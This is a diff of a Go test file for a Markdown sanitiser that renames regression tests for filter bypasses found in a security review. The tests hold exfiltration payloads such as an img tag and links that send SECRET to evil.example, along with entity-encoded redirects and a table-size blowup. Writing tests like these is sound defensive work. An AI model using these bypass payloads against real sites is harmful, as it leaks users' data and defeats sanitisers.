@@ -15,15 +15,15 @@ import (
 	"github.com/pullwright/pullwright/inert"
 )
 
-// Findings of the review of issue 41: each case here is a way through the
-// filter. They fail on the code they were written against.
+// Ways through the filter an attacker's review found (issue 41), each
+// kept as a test: they failed on the code they were written against.
 
 // An ordered list the writer renumbers past nine digits: CommonMark (and
 // cmark-gfm, GitHub's renderer) reads "1000000000." as text, so the item's
 // code block is no longer a code block and its content, kept byte for byte,
 // lands in the first item as raw HTML: an image fetched when the page is
 // opened, or an unclosed comment that hides everything after it.
-func TestReview41ListNumberOverflow(t *testing.T) {
+func TestAttackListNumberOverflow(t *testing.T) {
 	ind := strings.Repeat(" ", 11)
 	for name, payload := range map[string]string{
 		"image":            `<img src="https://evil.example/?d=SECRET">`,
@@ -39,7 +39,7 @@ func TestReview41ListNumberOverflow(t *testing.T) {
 // node the writer shows as plain text (a link or an image it refuses, a
 // nested strikethrough it flattens, paragraphs of a list nested deeper than
 // maxDepth).
-func TestReview41MentionByAdjacency(t *testing.T) {
+func TestAttackMentionByAdjacency(t *testing.T) {
 	q := strings.Repeat(">", 16)
 	for name, s := range map[string]string{
 		"refused link":  "cc @[alice](https://evil.example/)",
@@ -56,7 +56,7 @@ func TestReview41MentionByAdjacency(t *testing.T) {
 // as following it: after an image's text, inside emphasis, on the next line.
 // (check's own test of closing keywords reads the source, where the
 // writer's "\#3" hides the reference: here the text is read as shown.)
-func TestReview41ClosingKeyword(t *testing.T) {
+func TestAttackClosingKeyword(t *testing.T) {
 	for name, s := range map[string]string{
 		"refused image":         "fixes ![#3](https://evil.example/x.png)",
 		"emphasis":              "fixes *#3*",
@@ -94,7 +94,7 @@ func shown(t *testing.T, out string) string {
 // and the filter's bareLink needs a \b, which a digit before "https"
 // does not give ("a_https" is the control: goldmark links it). Emulated here: any scheme in text outside code spans and
 // links, preceded by anything but a letter, is a link on GitHub.
-func TestReview41BareLinkAfterDigit(t *testing.T) {
+func TestAttackBareLinkAfterDigit(t *testing.T) {
 	for _, s := range []string{
 		"see 1https://evil.example/?d=SECRET",
 		"see x1https://evil.example/?d=SECRET",
@@ -139,7 +139,7 @@ func githubBareLinks(out string) []string {
 // relative "/&#47;host" becomes "//host", a link to another site; an
 // attachment link gets a path that climbs out of /user-attachments/assets/.
 // Checked here on the rendered HTML, as a browser reads it.
-func TestReview41EntityInDestination(t *testing.T) {
+func TestAttackEntityInDestination(t *testing.T) {
 	for _, s := range []string{
 		"[x](/&amp;#47;evil.example/?d=SECRET)",
 		"[x](/&amp;sol;evil.example/?d=SECRET)",
@@ -170,7 +170,7 @@ func TestReview41EntityInDestination(t *testing.T) {
 // text of a 1000-column header and 2000 one-character rows parses to two
 // million cells (over a second here; a 32 KiB one took 52 s and wrote
 // 96 MB). The output is bounded here rather than the time.
-func TestReview41TableBlowup(t *testing.T) {
+func TestAttackTableBlowup(t *testing.T) {
 	const cols = 1000
 	s := "|" + strings.Repeat("a|", cols) + "\n|" + strings.Repeat("-|", cols) + "\n" + strings.Repeat("x\n", 2*cols)
 	out := inert.Markdown(s, gh)
@@ -182,7 +182,7 @@ func TestReview41TableBlowup(t *testing.T) {
 // The zero Hosts (a clone address with user info, an SSH remote, an unset
 // GITHUB_SERVER_URL) has web == "", which an https address with no host
 // matches: browsers read "https:/host" and "https:///host" as https://host.
-func TestReview41ZeroHostsEmptyHost(t *testing.T) {
+func TestAttackZeroHostsEmptyHost(t *testing.T) {
 	for _, repo := range []string{"", "git@github.com:acme/widget.git", "https://x-access-token:t@github.com/acme/widget.git"} {
 		h := inert.GitHub(repo)
 		for _, d := range []string{"https:/evil.example/?d=1", "https:///evil.example/?d=1"} {
